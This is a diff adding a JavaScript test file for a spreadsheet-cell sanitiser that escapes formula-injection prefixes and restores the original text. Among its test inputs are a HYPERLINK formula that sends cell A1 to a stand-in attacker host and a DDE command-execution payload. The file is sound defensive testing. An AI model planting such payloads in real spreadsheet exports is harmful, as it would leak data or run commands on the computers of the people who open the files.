@@ -1,0 +1,27 @@
+import { harmlessCell, originalText } from './harmless-cell.js';
+
+describe('a cell of a spreadsheet', () => {
+  it.each(['=1+1', '+1 319 555', '-2', '@SUM(A1)', '\t=1', '\r=1', '\n=1', '＝1', '＋1', '－1', '＠x', '|x', '%x'])(
+    'is no formula: %j',
+    (text) => {
+      expect(harmlessCell(text)).toBe(`'${text}`);
+      expect(originalText(harmlessCell(text))).toBe(text);
+    },
+  );
+
+  it.each(["'=1", "''-", '=HYPERLINK("http://evil.example/?"&A1,"x")', `=cmd|' /C calc'!A0`])(
+    'tells afterwards what it was: %j',
+    (text) => {
+      expect(harmlessCell(text)).toMatch(/^'/);
+      expect(originalText(harmlessCell(text))).toBe(text);
+    },
+  );
+
+  it.each(['', 'Keokuk', '4 x 3 inches', "'tis", '3-4', 'a=b', ' =1'])(
+    'stays as it is where it is none: %j',
+    (text) => {
+      expect(harmlessCell(text)).toBe(text);
+      expect(originalText(text)).toBe(text);
+    },
+  );
+});
